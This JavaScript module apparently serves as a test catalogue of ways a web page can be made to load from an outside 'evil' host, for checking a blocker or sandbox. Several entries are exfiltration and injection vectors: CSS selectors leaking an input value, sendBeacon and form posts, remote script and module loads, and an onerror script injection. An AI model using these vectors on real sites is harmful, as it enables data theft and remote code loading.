// What loads because it is in the document, by every way into it.
export default {
  "an image by inner HTML": ({ add, evil }) => void (add("div").innerHTML = `<img src="${evil}">`),
  "an image in no document": ({ evil }) => void (document.createElement("div").innerHTML = `<img src="${evil}">`),
  "an image by outer HTML": ({ add, evil }) => void (add("div").outerHTML = `<img src="${evil}">`),
  "an image by adjacent HTML": ({ evil }) => document.body.insertAdjacentHTML("beforeend", `<img src="${evil}">`),
  "an image by a fragment": ({ evil }) => document.createRange().createContextualFragment(`<img src="${evil}">`),
  "an image by setHTMLUnsafe": ({ add, evil }) => add("div").setHTMLUnsafe(`<img src="${evil}">`),
  "an image by a template": ({ evil }) => {
    const t = document.createElement("template");
    t.innerHTML = `<img src="${evil}">`;
    document.body.append(document.importNode(t.content, true));
  },
  "an image by a parser": ({ evil }) =>
    document.body.append(new DOMParser().parseFromString(`<img src="${evil}">`, "text/html").images[0]),
  "an image of a set": ({ add, evil }) => add("img", { srcset: `${evil} 1x` }),
  "an image of a picture": ({ add, evil }) =>
    void (add("div").innerHTML = `<picture><source srcset="${evil}"><img></picture>`),
  "an image of SVG": ({ add, evil }) => void (add("div").innerHTML = `<svg><image href="${evil}"/></svg>`),
  "a filter's image": ({ add, evil }) =>
    void (add("div").innerHTML =
      `<svg><filter id="f"><feImage href="${evil}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`),
  "an input's image": ({ add, evil }) => add("input", { type: "image", src: evil }),
  "a poster": ({ add, evil }) => add("video", { poster: evil }),
  "a video's source": ({ add, evil }) => void (add("div").innerHTML = `<video><source src="${evil}"></video>`),
  "a track": ({ add, evil }) => {
    add("div").innerHTML = `<video src="data:video/mp4,x" crossorigin><track default src="${evil}"></video>`;
    document.querySelector("track").track.mode = "showing";
  },
  "a body's background": ({ evil }) => void (document.body.background = evil),
  "a table's background": ({ add, evil }) =>
    void (add("div").innerHTML = `<table background="${evil}"><tr><td>x</table>`),
  "a style's background": ({ add, evil }) => void (add("p", { textContent: "x" }).style.background = `url(${evil})`),
  "a style's background by attribute": ({ add, evil }) =>
    add("p", { textContent: "x" }).setAttribute("style", `background: url(${evil})`),
  "a style's import": ({ add, evil }) => add("style", { textContent: `@import "${evil}/x.css";` }),
  "a style's font": ({ add, evil }) => {
    add("style", { textContent: `@font-face { font-family: f; src: url(${evil}/f) } p { font-family: f }` });
    add("p", { textContent: "x" });
  },
  "a style's selectors": ({ add, evil }) => {
    add("input", { value: "secret" }).setAttribute("value", "secret");
    add("style", { textContent: `input[value^=s] { background: url(${evil}/s) }` });
  },
  "a style's content, cursor and mask": ({ add, evil }) => {
    add("style", {
      textContent: `p::before { content: url(${evil}/a) } p { list-style: url(${evil}/b); display: list-item; mask: url(${evil}/c) }`,
    });
    add("p", { textContent: "x" });
  },
  "a rule that is inserted": ({ add, evil }) => {
    add("style").sheet.insertRule(`p { background: url(${evil}) }`);
    add("p", { textContent: "x" });
  },
  "an adopted style sheet": ({ add, evil }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`p { background: url(${evil}) }`);
    document.adoptedStyleSheets = [sheet];
    add("p", { textContent: "x" });
  },
  "an adopted style sheet of a shadow tree": ({ add, evil }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`:host { display: block; background: url(${evil}) }`);
    const host = add("div", { textContent: "x" });
    host.attachShadow({ mode: "open" }).adoptedStyleSheets = [sheet];
  },
  "a typed style": ({ add, evil }) =>
    add("p", { textContent: "x" }).attributeStyleMap.set("background-image", `url(${evil})`),
  "a style sheet": ({ add, evil }) => add("link", { rel: "stylesheet", href: `${evil}/x.css` }),
  "a style sheet by markup": ({ evil }) =>
    document.head.insertAdjacentHTML("beforeend", `<link rel="stylesheet" href="${evil}/x.css">`),
  "a style sheet of XML": ({ add, evil }) => {
    const pi = document.createProcessingInstruction("xml-stylesheet", `href="${evil}/x.css" type="text/css"`);
    document.insertBefore(pi, document.documentElement);
    add("link", { rel: "stylesheet", href: `${evil}/x.css` });
  },
  "an icon": ({ evil }) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: evil })),
  "a manifest": ({ evil }) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: evil })),
  "a script": ({ add, evil }) => add("script", { src: `${evil}/x.js` }),
  "a module": ({ add, evil }) => add("script", { type: "module", src: `${evil}/x.js` }),
  "a module's import": ({ add, evil }) => add("script", { type: "module", textContent: `import "${evil}/x.js"` }),
  "a script of SVG": ({ add, evil }) => {
    const svg = (name, parent) => parent.appendChild(document.createElementNS("http://www.w3.org/2000/svg", name));
    svg("script", svg("svg", add("div"))).setAttribute("href", `${evil}/x.js`);
  },
  "a script by a fragment": ({ evil }) =>
    document.body.append(document.createRange().createContextualFragment(`<script src="${evil}/x.js"><\x2fscript>`)),
  "a script by setHTMLUnsafe": ({ add, evil }) =>
    add("div").setHTMLUnsafe(`<script src="${evil}/x.js"><\x2fscript>`, { runScripts: true }),
  "a script that markup's handler makes": ({ add, evil }) =>
    void (add("div").innerHTML =
      `<img src="data:,x" onerror="document.body.append(Object.assign(document.createElement('script'),{src:'${evil}/x.js'}))">`),
  "a preload of a script": ({ add, evil }) => add("link", { rel: "preload", as: "script", href: `${evil}/x.js` }),
  "a preload of a style": ({ add, evil }) => add("link", { rel: "preload", as: "style", href: `${evil}/x.css` }),
  "a preload of a fetch": ({ add, evil }) => add("link", { rel: "preload", as: "fetch", href: evil, crossOrigin: "" }),
  "a preload of an image": ({ add, evil }) => add("link", { rel: "preload", as: "image", href: evil }),
  "a preload of an image's set": ({ add, evil }) =>
    add("link", { rel: "preload", as: "image", imageSrcset: `${evil} 1x` }),
  "a preload of a font": ({ add, evil }) => add("link", { rel: "preload", as: "font", href: evil, crossOrigin: "" }),
  "a modulepreload": ({ add, evil }) => add("link", { rel: "modulepreload", href: `${evil}/x.js` }),
  "a prefetch": ({ add, evil }) => add("link", { rel: "prefetch", href: evil }),
  "a prefetch by markup": ({ evil }) =>
    document.head.insertAdjacentHTML("beforeend", `<link rel="prefetch" href="${evil}">`),
  "a prefetch by a namespace": ({ evil }) => {
    const l = document.createElementNS("http://www.w3.org/1999/xhtml", "x:link");
    l.setAttributeNS(null, "href", evil);
    l.setAttributeNS(null, "rel", "prefetch");
    document.head.append(l);
  },
  "a preconnect": ({ add, evil }) => add("link", { rel: "preconnect", href: evil }),
  "a preconnect by markup": ({ evil }) =>
    document.head.insertAdjacentHTML("beforeend", `<link rel="preconnect" href="${evil}">`),
  "a preconnect by a parser": ({ evil }) =>
    document.head.append(
      new DOMParser().parseFromString(`<link rel="preconnect" href="${evil}">`, "text/html").querySelector("link"),
    ),
  "a preconnect by an Attr": ({ evil }) => {
    const l = document.createElement("link");
    const attribute = (name, value) => l.setAttributeNode(Object.assign(document.createAttribute(name), { value }));
    attribute("rel", "preconnect");
    attribute("href", evil);
    document.head.append(l);
  },
  "a preconnect by setAttributeNS": ({ evil }) => {
    const l = document.createElement("link");
    l.setAttributeNS(null, "rel", "preconnect");
    l.setAttributeNS(null, "href", evil);
    document.head.append(l);
  },
  "a preconnect by relList": ({ evil }) => {
    const l = document.createElement("link");
    l.href = evil;
    l.relList.add("preconnect");
    document.head.append(l);
  },
  "a preconnect by relList in a shadow tree": ({ add, evil }) => {
    const l = document.createElement("link");
    l.href = evil;
    l.relList.add("preconnect");
    add("div").attachShadow({ mode: "closed" }).append(l);
  },
  "a preconnect with two hrefs": ({ own, evil }) => {
    const l = document.createElement("link");
    l.setAttributeNS("urn:x", "href", own);
    l.rel = "preconnect";
    l.href = evil;
    document.head.append(l);
  },
  "a preconnect by a frame's setters": ({ add, evil }) => {
    add("iframe");
    const l = document.createElement("link");
    const set = (name, value) =>
      Object.getOwnPropertyDescriptor(window[0].HTMLLinkElement.prototype, name).set.call(l, value);
    set("rel", "preconnect");
    set("href", evil);
    document.head.append(l);
  },
  "a preconnect in a frame": ({ add, evil }) => {
    add("iframe");
    const { document: inner } = window[0];
    inner.head.append(Object.assign(inner.createElement("link"), { rel: "preconnect", href: evil }));
  },
  "speculation rules": ({ evil }) =>
    document.head.append(
      Object.assign(document.createElement("script"), {
        type: "speculationrules",
        textContent: `{"prefetch":[{"source":"list","urls":["${evil}/"]}]}`,
      }),
    ),
  "speculation rules by a fragment": ({ evil }) =>
    document.head.append(
      document
        .createRange()
        .createContextualFragment(
          `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/"]}]}<\x2fscript>`,
        ),
    ),
  "speculation rules by setHTMLUnsafe": ({ add, evil }) =>
    add("div").setHTMLUnsafe(
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/"]}]}<\x2fscript>`,
      { runScripts: true },
    ),
  "speculation rules by an Attr": ({ evil }) => {
    const s = document.createElement("script");
    s.setAttributeNode(Object.assign(document.createAttribute("type"), { value: "speculationrules" }));
    s.textContent = `{"prefetch":[{"source":"list","urls":["${evil}/"]}]}`;
    document.head.append(s);
  },
  "speculation rules by setAttributeNS": ({ evil }) => {
    const s = document.createElement("script");
    s.setAttributeNS(null, "type", "speculationrules");
    s.textContent = `{"prefetch":[{"source":"list","urls":["${evil}/"]}]}`;
    document.head.append(s);
  },
  "speculation rules with two types": ({ evil }) => {
    const s = document.createElement("script");
    s.setAttributeNS("urn:x", "type", "text/plain");
    s.type = "speculationrules";
    s.textContent = `{"prefetch":[{"source":"list","urls":["${evil}/"]}]}`;
    document.head.append(s);
  },
  "speculation rules that prerender": ({ evil }) => {
    const s = document.createElement("script");
    s.setAttributeNS(null, "type", "speculationrules");
    s.textContent = `{"prerender":[{"source":"list","urls":["${evil}/"]}]}`;
    document.head.append(s);
  },
  "speculation rules in a closed shadow tree": ({ add, evil }) => {
    const s = document.createElement("script");
    s.setAttributeNS(null, "type", "speculationrules");
    s.textContent = `{"prefetch":[{"source":"list","urls":["${evil}/"]}]}`;
    add("div").attachShadow({ mode: "closed" }).append(s);
  },
  "speculation rules that are written": ({ evil }) => {
    document.open();
    document.write(`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/"]}]}<\x2fscript>`);
    document.close();
  },
  "a frame": ({ add, evil }) => add("iframe", { src: evil }),
  "a frame by markup": ({ add, evil }) => void (add("div").innerHTML = `<iframe src="${evil}"></iframe>`),
  "a frame that moves": ({ add, evil }) => void (add("iframe").contentWindow.location = evil),
  "a frame that moves by index": ({ add, evil }) => {
    add("iframe");
    window[0].location = evil;
  },
  "a frame by name": ({ add, evil }) => {
    add("iframe", { name: "inner" });
    add("a", { href: evil, target: "inner" }).click();
  },
  "an object": ({ add, evil }) => add("object", { data: evil }),
  "an embed": ({ add, evil }) => add("embed", { src: evil }),
  "a custom element that sends": ({ evil }) => {
    customElements.define(
      "x-y",
      class extends HTMLElement {
        connectedCallback() {
          navigator.sendBeacon(evil, "x");
        }
      },
    );
    document.body.append(document.createElement("x-y"));
  },
  "an observer that sends": ({ add, evil }) => {
    new MutationObserver(() => navigator.sendBeacon(evil, "x")).observe(document.body, { childList: true });
    add("p");
  },
  "a style whose fragment is another's": ({ add, evil }) =>
    void (add("div").innerHTML =
      `<svg><rect fill="url(${evil}/#p)" width="9" height="9"/><use href="${evil}/#x"/></svg>`),
  "XSLT that imports": ({ evil }) => {
    const d = (text) => new DOMParser().parseFromString(text, "application/xml");
    const p = new XSLTProcessor();
    p.importStylesheet(
      d(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${evil}/x.xsl"/>
      <xsl:template match="/"><img xmlns="http://www.w3.org/1999/xhtml" src="${evil}"/></xsl:template></xsl:stylesheet>`),
    );
    document.body.append(p.transformToFragment(d("<x/>"), document));
  },
  "an animation": ({ add, evil }) =>
    add("p", { textContent: "x" }).animate(
      [{ backgroundImage: `url(${evil})` }, { backgroundImage: `url(${evil})` }],
      1_000,
    ),
  "a style's property": ({ add, evil }) =>
    add("p", { textContent: "x" }).style.setProperty("background", `image-set("${evil}" 1x)`),
  "a style's custom property": ({ add, evil }) => {
    add("style", { textContent: `:root { --x: url(${evil}) } p { background: var(--x) }` });
    add("p", { textContent: "x" });
  },
  "a form in a frame": ({ add, evil }) => {
    add("iframe", { name: "inner" });
    add("form", { action: evil, target: "inner", method: "post" }).submit();
  },
  "a link's image for a touch screen": ({ evil }) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "apple-touch-icon", href: evil })),
  "an image that a parser calls image": ({ add, evil }) => void (add("div").innerHTML = `<image src="${evil}">`),
};
